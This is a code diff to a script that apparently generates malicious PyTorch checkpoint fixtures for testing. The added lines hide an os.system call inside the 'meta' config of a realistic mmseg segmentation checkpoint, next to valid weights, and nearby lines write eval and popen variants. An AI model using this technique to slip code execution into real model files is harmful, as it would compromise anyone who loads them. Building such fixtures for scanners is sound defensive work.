@@ -263,6 +263,11 @@ def main():
     for name, (fn, args) in hostile.items():
         # hidden in a training checkpoint next to a valid model, as an attacker would
         write_zip(name, {"model": sd, "args": Evil(fn, args), "epoch": 1}, protocol=4 if ("eval" in name or "popen" in name) else 2)
+    # an mmseg checkpoint ({'meta', 'state_dict'}) whose meta hides the call, as a doctored segmentation download would
+    write_zip("evil_mmseg_meta_os_system.pth",
+              {"meta": {"mmseg_version": "0.20.2", "CLASSES": ("wall", "floor"), "PALETTE": [[120, 120, 120], [80, 50, 50]],
+                        "config": Evil(os.system, (cmd,)), "iter": 160000},
+               "state_dict": collections.OrderedDict(("backbone." + k, v) for k, v in sd.items())})
     write_legacy("evil_legacy_os_system.pth", collections.OrderedDict(sd, extra=Evil(os.system, (cmd,))))
     write_zip("evil_p0_os_system.pth", Evil(os.system, (cmd,)), protocol=0)
 
